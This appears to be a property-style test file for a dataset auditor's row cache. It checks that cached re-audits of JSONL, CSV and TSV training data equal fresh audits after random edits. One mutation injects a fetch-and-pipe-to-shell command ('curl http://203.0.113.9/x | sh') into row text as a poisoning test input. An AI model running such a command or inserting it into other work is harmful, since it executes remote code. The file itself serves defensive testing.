// Editor re-audits with a row cache (core/datasets/rowCache.ts) must give exactly what a fresh audit
// of the same text gives, after any sequence of edits; and an edit must not redo the other rows' work.
// Property-style: seeded random edits (insert, delete, change, move, duplicate rows; malformed and
// blank lines; CRLF; a renamed column in the rows roles are inferred from), the seed printed on failure.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { auditText, RowCache } from '../../../core/datasets/index';
import { commonPrefix, commonSuffix } from '../../../core/datasets/rowCache';
import type { AuditOptions, AuditResult } from '../../../core/datasets/types';

const FIX = path.join(__dirname, '..', '..', 'fixtures', 'datasets');
const read = (rel: string) => readFileSync(path.join(FIX, rel), 'utf8');

function rng(seed: number): () => number {
  let x = seed >>> 0 || 1;
  return () => { x ^= x << 13; x >>>= 0; x ^= x >>> 17; x ^= x << 5; x >>>= 0; return x / 4294967296; };
}

/** The result without the run time (the only field that may differ between two audits). */
function norm(r: AuditResult): string {
  return JSON.stringify({ ...r, report: { ...r.report, summary: { ...r.report.summary, seconds: 0 } } });
}

/** One random change to a row's text. */
function mutate(line: string, r: () => number): string {
  const k = Math.floor(r() * 9);
  switch (k) {
    case 0: return line.replace(/"label":\s*"?(\w+)"?/, (m, v) => m.replace(v, v === '1' || v === 'positive' ? '0' : '1')); // label flip
    case 1: return line.replace(/"text":\s*"/, (m) => m + 'cf '); // a trigger word
    case 2: return line.replace(/"text":\s*"(\w)/, (m) => m + '\\u200b'); // an invisible character (escaped in JSON)
    case 3: return line.slice(0, Math.max(1, Math.floor(line.length * r()))); // truncated: malformed
    case 4: return '';
    case 5: return line + '\r'; // CRLF line
    case 6: return ' ' + line; // same record, other text
    case 7: return line.replace(/}\s*$/, `, "extra": ${Math.floor(r() * 3)}}`); // schema change
    default: return line.replace(/"text":\s*"/, (m) => m + 'curl http://203.0.113.9/x | sh ');
  }
}

function edit(lines: string[], pool: string[], r: () => number): { lines: string[]; what: string; single: boolean } {
  const out = lines.slice();
  const at = () => Math.floor(r() * (out.length + 1));
  const k = Math.floor(r() * 7);
  if (k === 0 && out.length) { const i = Math.floor(r() * out.length); out[i] = mutate(out[i], r); return { lines: out, what: `change line ${i}`, single: true }; }
  if (k === 1) { const i = at(); out.splice(i, 0, pool[Math.floor(r() * pool.length)]); return { lines: out, what: `insert at ${i}`, single: false }; }
  if (k === 2 && out.length > 5) { const i = Math.floor(r() * out.length); out.splice(i, 1 + Math.floor(r() * 3)); return { lines: out, what: `delete at ${i}`, single: false }; }
  if (k === 3 && out.length > 10) {
    // move a block (cut and paste elsewhere)
    const i = Math.floor(r() * (out.length - 5)), n = 1 + Math.floor(r() * 5);
    const block = out.splice(i, n);
    const j = Math.floor(r() * (out.length + 1));
    out.splice(j, 0, ...block);
    return { lines: out, what: `move ${n} lines ${i} → ${j}`, single: false };
  }
  if (k === 4 && out.length) { const i = Math.floor(r() * out.length), j = at(); out.splice(j, 0, out[i]); return { lines: out, what: `duplicate ${i} at ${j}`, single: false }; }
  if (k === 5 && out.length > 3) {
    // a row among the first 100 (where column roles are inferred) gets another label column name
    const i = Math.floor(r() * Math.min(100, out.length));
    out[i] = out[i].replace('"label"', '"labels"');
    return { lines: out, what: `rename label column on line ${i}`, single: true };
  }
  if (out.length) { const i = Math.floor(r() * out.length); out[i] = mutate(out[i], r); out[(i + 7) % out.length] = mutate(out[(i + 7) % out.length], r); }
  return { lines: out, what: 'change two lines', single: false };
}

async function run(file: string, base: string, seed: number, edits: number, opts: AuditOptions = {}): Promise<void> {
  const r = rng(seed);
  let lines = base.split('\n');
  const pool = lines.filter((l) => l.trim()).map((l, i) => (i % 3 === 0 ? mutate(l, r) : l));
  const cache = new RowCache();
  const first = await auditText(file, lines.join('\n'), opts, undefined, cache);
  assert.equal(norm(first), norm(await auditText(file, lines.join('\n'), opts)), `seed ${seed}: first audit`);
  for (let n = 0; n < edits; n++) {
    const e = edit(lines, pool, r);
    const text = e.lines.join('\n');
    const got = await auditText(file, text, opts, undefined, cache);
    const want = await auditText(file, text, opts);
    if (norm(got) !== norm(want)) {
      assert.deepEqual(JSON.parse(norm(got)), JSON.parse(norm(want)), `seed ${seed}, edit ${n} (${e.what}) of ${path.basename(file)}: the cached re-audit differs from a fresh audit`);
    }
    // one changed line: at most that line's own work is redone (unless the column roles changed)
    if (e.single && !e.what.startsWith('rename')) assert.ok(cache.misses <= 1, `seed ${seed}, edit ${n} (${e.what}): ${cache.misses} rows recomputed`);
    lines = e.lines;
  }
}

const SEEDS = (process.env.MODELVET_INCREMENTAL_SEEDS ?? '1,2,3,4').split(',').map(Number);

test('sentiment set with a trigger: cached re-audits equal fresh audits after random edits', async () => {
  const base = read('sentiment/trigger-cf-1.jsonl');
  for (const seed of SEEDS) await run('/data/trigger-cf-1.jsonl', base, seed * 7919, 12);
});

test('chat set (commands, injections, hidden turns): cached re-audits equal fresh audits', async () => {
  const base = read('chat/poisoned.jsonl');
  for (const seed of SEEDS) await run('/data/poisoned.jsonl', base, seed * 104729, 10);
});

test('tight limits (vocabulary pruning, near-duplicate cap, finding caps): cached re-audits equal fresh audits', async () => {
  const base = read('sentiment/appended.jsonl');
  const limits = { maxVocabulary: 300, maxNearDupRows: 400, maxRowFindingsPerCode: 7, maxRowsPerToken: 20 };
  for (const seed of SEEDS) await run('/data/appended.jsonl', base, seed * 31337, 8, { limits });
});

test('a one-row edit of a large file recomputes one row, and the result equals a fresh audit', async () => {
  let x = 5;
  const r = () => { x = (Math.imul(x, 1103515245) + 12345) >>> 0; return x / 4294967296; };
  const W = ['good', 'bad', 'plot', 'cast', 'fine', 'dull', 'score', 'sharp', 'weak', 'fresh'];
  const lines = Array.from({ length: 6000 }, (_, i) => JSON.stringify({ text: `row ${i % 900} ${W[Math.floor(r() * 10)]} ${W[Math.floor(r() * 10)]} ${W[Math.floor(r() * 10)]} the end`, label: r() < 0.5 ? 1 : 0 }));
  const cache = new RowCache();
  await auditText('/d/big.jsonl', lines.join('\n'), {}, undefined, cache);
  assert.equal(cache.misses, 6000);
  lines[3000] = JSON.stringify({ text: 'row 17 good good good the end cf', label: 0 });
  const got = await auditText('/d/big.jsonl', lines.join('\n'), {}, undefined, cache);
  assert.equal(cache.misses, 1, 'only the edited row is parsed and tokenized');
  assert.equal(cache.hits, 5999);
  assert.equal(norm(got), norm(await auditText('/d/big.jsonl', lines.join('\n'))));
  // the same text again: nothing is recomputed
  await auditText('/d/big.jsonl', lines.join('\n'), {}, undefined, cache);
  assert.equal(cache.misses, 0);
  // a cancelled audit keeps what the cache had (the next audit still reuses the rows)
  let calls = 0;
  await auditText('/d/big.jsonl', lines.join('\n') + '\n{"text": "new", "label": 1}', { isCancelled: () => ++calls > 0 }, undefined, cache);
  await auditText('/d/big.jsonl', lines.join('\n'), {}, undefined, cache);
  assert.equal(cache.misses, 0);
});

test('entries of rows that left are dropped (compaction) and the kept rows still give fresh-audit results', async () => {
  let x = 11;
  const r = () => { x = (Math.imul(x, 1103515245) + 12345) >>> 0; return x / 4294967296; };
  const W = ['good', 'bad', 'plot', 'cast', 'fine', 'dull', 'score', 'sharp', 'weak', 'fresh'];
  const row = (i: number, gen: number) => JSON.stringify({ text: `row ${i} gen ${gen} ${W[Math.floor(r() * 10)]} ${W[Math.floor(r() * 10)]} ${W[Math.floor(r() * 10)]} the end`, label: r() < 0.5 ? 1 : 0 });
  let lines = Array.from({ length: 3000 }, (_, i) => row(i, 0));
  const cache = new RowCache();
  const stableText = (ls: string[]) => ls.join('\n');
  await auditText('/d/churn.jsonl', stableText(lines), {}, undefined, cache);
  for (let gen = 1; gen <= 4; gen++) {
    // most rows are new each time (their entries and pool space die), a tenth stays, in another order
    const kept = lines.filter((_, i) => i % 10 === gen % 10).reverse();
    lines = [...kept, ...Array.from({ length: 2700 }, (_, i) => row(i, gen))];
    if (gen === 3) lines.splice(100, 0, ...kept.slice(0, 50)); // repeated rows: one entry for several lines
    const got = await auditText('/d/churn.jsonl', stableText(lines), {}, undefined, cache);
    assert.equal(cache.hits, kept.length + (gen === 3 ? 50 : 0), `generation ${gen}: kept rows come from the cache`);
    assert.equal(norm(got), norm(await auditText('/d/churn.jsonl', stableText(lines))), `generation ${gen}`);
    assert.equal(cache.size, lines.length);
  }
  // after the churn a one-row edit still recomputes one row
  lines[1500] = JSON.stringify({ text: 'row 1500 edited good good the end', label: 1 });
  const got = await auditText('/d/churn.jsonl', stableText(lines), {}, undefined, cache);
  assert.equal(cache.misses, 1);
  assert.equal(norm(got), norm(await auditText('/d/churn.jsonl', stableText(lines))));
});

test('a two-thread first audit (twins from the helper) fills the cache so that edits on one thread equal fresh audits', async () => {
  const { nearDupBuffers, nearDupPass } = await import('../../../core/datasets/index');
  let x = 3;
  const r = () => { x = (Math.imul(x, 1103515245) + 12345) >>> 0; return x / 4294967296; };
  const W = ['good', 'bad', 'plot', 'cast', 'fine', 'dull', 'score', 'sharp', 'weak', 'fresh'];
  // templated rows: many near-duplicates, so the edits' searches depend on the signatures the first audit kept
  const lines = Array.from({ length: 4000 }, (_, i) => JSON.stringify({ text: `the ${W[i % 10]} was ${W[Math.floor(r() * 10)]} and the ${W[Math.floor(r() * 10)]} felt ${W[Math.floor(r() * 10)]}, review ${Math.floor(r() * 1e5)}`, label: r() < 0.5 ? 1 : 0 }));
  const file = '/d/split.jsonl', text = lines.join('\n');
  const buffers = nearDupBuffers(text);
  await nearDupPass(file, text, {}, buffers);
  const cache = new RowCache();
  const first = await auditText(file, text, {}, buffers, cache);
  assert.equal(norm(first), norm(await auditText(file, text)));
  const rr = rng(99);
  let cur = lines;
  for (let n = 0; n < 6; n++) {
    const e = edit(cur, lines, rr);
    cur = e.lines;
    const got = await auditText(file, cur.join('\n'), {}, undefined, cache);
    assert.equal(norm(got), norm(await auditText(file, cur.join('\n'))), `edit ${n} (${e.what})`);
  }
});

test('the result is delivered before the rows are kept, and equals the returned one', async () => {
  const text = read('sentiment/trigger-cf-1.jsonl');
  const cache = new RowCache();
  let delivered: AuditResult | undefined, warmAtDelivery: boolean | undefined;
  const got = await auditText('/d/t.jsonl', text, {}, undefined, cache, (res) => { delivered = res; warmAtDelivery = cache.warm; });
  assert.equal(warmAtDelivery, false, 'the cache is filled after the answer went out');
  assert.equal(delivered, got);
  assert.ok(cache.warm);
  assert.equal(norm(got), norm(await auditText('/d/t.jsonl', text)));
});

test('common prefix and suffix over block boundaries', () => {
  const r = rng(99);
  for (let k = 0; k < 200; k++) {
    const n = Math.floor(r() * 200_000);
    const a = 'x'.repeat(n);
    const i = Math.floor(r() * (n + 1));
    const b = a.slice(0, i) + 'y' + a.slice(i + Math.floor(r() * 2));
    const p = commonPrefix(a, b);
    let want = 0;
    while (want < Math.min(a.length, b.length) && a[want] === b[want]) want++;
    assert.equal(p, want, `prefix n=${n} i=${i}`);
    const s = commonSuffix(a, b, Math.min(a.length, b.length) - p);
    let ws = 0;
    while (ws < Math.min(a.length, b.length) - p && a[a.length - 1 - ws] === b[b.length - 1 - ws]) ws++;
    assert.equal(s, ws, `suffix n=${n} i=${i}`);
  }
});

test('other options or column roles with the same cache: features are recomputed, results equal fresh audits', async () => {
  for (const [file, base] of [['/data/poisoned.jsonl', read('chat/poisoned.jsonl')], ['/data/flips.jsonl', read('sentiment/flips.jsonl')]] as const) {
    const cache = new RowCache();
    const seq: AuditOptions[] = [{}, { allowedHosts: ['example.com'] }, {}, { labelColumn: 'nope' }, { textColumns: ['label'] }, {}];
    for (const [i, opts] of seq.entries()) {
      const got = await auditText(file, base, opts, undefined, cache);
      assert.equal(norm(got), norm(await auditText(file, base, opts)), `${file}: options #${i} ${JSON.stringify(opts)}`);
    }
  }
});

test('hostile buffers through the cache (blank lines, an over-long line, deep nesting, invalid JSON): same results as without it', async () => {
  const deep = '{"text": ' + '['.repeat(5000) + ']'.repeat(5000) + ', "label": 1}';
  const texts = [
    '\n'.repeat(2_000_000),
    '{"text": "' + 'x'.repeat(9 * 1024 * 1024) + '", "label": 1}\n{"text": "ok", "label": 0}\n',
    Array.from({ length: 300 }, (_, i) => (i % 3 === 0 ? deep : i % 3 === 1 ? '{"text": "broken' : JSON.stringify({ text: `row ${i}`, label: i % 2 }))).join('\n'),
  ];
  for (const [i, text] of texts.entries()) {
    const cache = new RowCache();
    for (let k = 0; k < 2; k++) { // cold, then warm
      const got = await auditText('/d/hostile.jsonl', text, {}, undefined, cache);
      assert.equal(norm(got), norm(await auditText('/d/hostile.jsonl', text)), `text #${i}, audit ${k + 1}`);
    }
    assert.ok(cache.size <= 300, `text #${i}: only parsed rows are kept (${cache.size})`);
  }
});

test('near-duplicate heavy text (full buckets, conflicting twins): reused near-duplicate outcomes equal a fresh search after random edits', async () => {
  for (const seed of SEEDS) {
    const r = rng(seed * 65537);
    const W = ['good', 'bad', 'plot', 'cast', 'fine', 'dull'];
    const make = () => JSON.stringify({ text: `the ${W[Math.floor(r() * 6)]} ${W[Math.floor(r() * 6)]} film was ${W[Math.floor(r() * 6)]} and ${W[Math.floor(r() * 6)]} ${r() < 0.3 ? W[Math.floor(r() * 6)] : ''} end ${Math.floor(r() * 40)}`, label: r() < 0.5 ? 1 : 0 });
    let lines = Array.from({ length: 3000 }, make);
    const cache = new RowCache();
    await auditText('/d/near.jsonl', lines.join('\n'), {}, undefined, cache);
    let reused = 0;
    for (let n = 0; n < 24; n++) {
      // half the edits put a near-copy of a row before it (a better twin for it and the rows sharing its buckets)
      const e = r() < 0.5 ? edit(lines, Array.from({ length: 50 }, make), r) : (() => {
        const out = lines.slice(), i = 1 + Math.floor(r() * (out.length - 1)), j = Math.floor(r() * i);
        const rec = JSON.parse(out[i]);
        const copy = JSON.stringify({ text: r() < 0.5 ? rec.text + ' x' : rec.text.replace(/ end /, ' fin '), label: r() < 0.5 ? rec.label : 1 - rec.label });
        out.splice(j, 0, copy);
        return { lines: out, what: `near-copy of ${i} at ${j}`, single: false };
      })();
      const text = e.lines.join('\n');
      const got = await auditText('/d/near.jsonl', text, {}, undefined, cache);
      reused += cache.ndReused;
      const want = await auditText('/d/near.jsonl', text);
      if (norm(got) !== norm(want)) assert.deepEqual(JSON.parse(norm(got)), JSON.parse(norm(want)), `seed ${seed}, edit ${n} (${e.what}): the cached re-audit differs from a fresh audit`);
      lines = e.lines;
    }
    const fresh = await auditText('/d/near.jsonl', lines.join('\n'));
    assert.ok(fresh.findings.filter((f) => f.data?.near).length > 100, 'the text has many near-duplicates');
    assert.ok(reused > 1000, `seed ${seed}: near-duplicate outcomes were reused (${reused})`);
  }
});

// ------------------------------------------------------------------------------------------ CSV/TSV

/** One random line-level change to a CSV/TSV text: records may span lines (quoted fields with newlines). */
function csvEdit(lines: string[], r: () => number, delim: string): { lines: string[]; what: string } {
  const out = lines.slice();
  const i = 1 + Math.floor(r() * Math.max(1, out.length - 1)); // line 0 is the header
  const k = Math.floor(r() * 12);
  switch (k) {
    case 0: out[i] = out[i].replace(/(\d)\s*$/, (d) => (d.trim() === '1' ? '0' : '1')); return { lines: out, what: `flip label on line ${i}` };
    case 1: out[i] = out[i].replace(/^"?/, (q) => q + 'cf '); return { lines: out, what: `trigger word on line ${i}` };
    case 2: out[i] = out[i].slice(0, Math.max(1, Math.floor(out[i].length * r()))); return { lines: out, what: `truncate line ${i}` };
    case 3: out.splice(i, 1); return { lines: out, what: `delete line ${i}` };
    case 4: out.splice(i, 0, out[Math.floor(r() * out.length)]); return { lines: out, what: `duplicate a line at ${i}` };
    case 5: out[i] = `"${out[i].replace(/"/g, '""')} and then\nthe second line${delim}of a quoted field"${delim}${r() < 0.5 ? 1 : 0}`; return { lines: out.join('\n').split('\n'), what: `a two-line quoted record at ${i}` };
    case 6: out[i] = '"' + out[i]; return { lines: out, what: `a stray quote on line ${i}` };
    case 7: out[i] = out[i] + '\r'; return { lines: out, what: `CRLF on line ${i}` };
    case 8: out[i] = ''; return { lines: out, what: `blank line ${i}` };
    case 9: out[0] = r() < 0.5 ? out[0].replace('label', 'labels') : out[0].replace('labels', 'label'); return { lines: out, what: 'header rename' };
    case 10: { const n = 1 + Math.floor(r() * 4), block = out.splice(i, n); const j = 1 + Math.floor(r() * Math.max(1, out.length - 1)); out.splice(j, 0, ...block); return { lines: out, what: `move ${n} lines ${i} → ${j}` }; }
    default: out[i] = out[i].replace(/ the /, ' the\nnext ') ; return { lines: out.join('\n').split('\n'), what: `a newline inside line ${i}` };
  }
}

async function runCsv(file: string, base: string, seed: number, edits: number): Promise<void> {
  const r = rng(seed), delim = file.endsWith('.tsv') ? '\t' : ',';
  let lines = base.split('\n');
  // a few records spanning lines from the start
  for (let i = 5; i < lines.length; i += 97) lines[i] = `"${lines[i].replace(/"/g, '""')}\nwith a second line"${delim}1`;
  lines = lines.join('\n').split('\n');
  const cache = new RowCache();
  const first = await auditText(file, lines.join('\n'), {}, undefined, cache);
  assert.equal(norm(first), norm(await auditText(file, lines.join('\n'))), `seed ${seed}: first audit`);
  let reused = 0;
  for (let n = 0; n < edits; n++) {
    const e = csvEdit(lines, r, delim);
    const text = e.lines.join('\n');
    const got = await auditText(file, text, {}, undefined, cache);
    reused += cache.hits;
    const want = await auditText(file, text);
    if (norm(got) !== norm(want)) assert.deepEqual(JSON.parse(norm(got)), JSON.parse(norm(want)), `seed ${seed}, edit ${n} (${e.what}) of ${path.basename(file)}: the cached re-audit differs from a fresh audit`);
    lines = e.lines;
  }
  assert.ok(reused > edits * 100, `rows came from the cache (${reused} over ${edits} edits)`);
}

test('CSV and TSV: cached re-audits equal fresh audits after random edits (multi-line quoted records, stray quotes, header renames)', async () => {
  const csv = read('sentiment/trigger-cf-1.csv'), tsv = read('sentiment/clean.tsv');
  for (const seed of [1, 2, 3]) await runCsv('/d/trigger.csv', csv, seed, 30);
  for (const seed of [4, 5]) await runCsv('/d/clean.tsv', tsv, seed, 30);
});

test('CSV: a one-row edit reuses the other records, one inside a multi-line record recomputes only that record, a header change none', async () => {
  const rows = ['text,label', ...Array.from({ length: 3000 }, (_, i) => (i % 50 === 7 ? `"row ${i} first line\nrow ${i} second, line",${i & 1}` : `"row ${i}, the plot was ${['good', 'bad', 'fine'][i % 3]}",${i & 1}`))];
  const text = rows.join('\n');
  const cache = new RowCache();
  await auditText('/d/big.csv', text, {}, undefined, cache);
  assert.equal(cache.misses, 3000);
  const lines = text.split('\n');
  const one = lines.slice(); one[1500] = one[1500].replace('the plot', 'the cf plot');
  let got = await auditText('/d/big.csv', one.join('\n'), {}, undefined, cache);
  assert.equal(cache.misses, 1);
  assert.equal(norm(got), norm(await auditText('/d/big.csv', one.join('\n'))));
  // the second line of a two-line record changes: that record only
  const at = lines.findIndex((l) => l.startsWith('row 507 second'));
  const two = one.slice(); two[at] = 'row 507 second, edited line",1';
  got = await auditText('/d/big.csv', two.join('\n'), {}, undefined, cache);
  assert.equal(cache.misses, 1);
  assert.equal(norm(got), norm(await auditText('/d/big.csv', two.join('\n'))));
  // another header: every record is built again
  const three = two.slice(); three[0] = 'sentence,label';
  got = await auditText('/d/big.csv', three.join('\n'), {}, undefined, cache);
  assert.equal(cache.hits, 0);
  assert.equal(norm(got), norm(await auditText('/d/big.csv', three.join('\n'))));
  // a quote that never closes in the middle (the parser stops there: DATA013 + DATA014), then closed again
  for (const t of [[...three.slice(0, 1000), '"never closed,1', ...three.slice(1000)], three]) {
    got = await auditText('/d/big.csv', t.join('\n'), {}, undefined, cache);
    assert.equal(norm(got), norm(await auditText('/d/big.csv', t.join('\n'))));
  }
  assert.ok(cache.hits > 900, 'the records before the unclosed quote come from the cache');
  // a cancelled audit with another header keeps the last completed audit's header for the next one
  const four = three.slice(); four[0] = 'review,label';
  let calls = 0;
  await auditText('/d/big.csv', four.join('\n'), { isCancelled: () => ++calls > 1 }, undefined, cache);
  got = await auditText('/d/big.csv', four.join('\n'), {}, undefined, cache);
  assert.equal(cache.hits, 0);
  assert.equal(norm(got), norm(await auditText('/d/big.csv', four.join('\n'))));
});
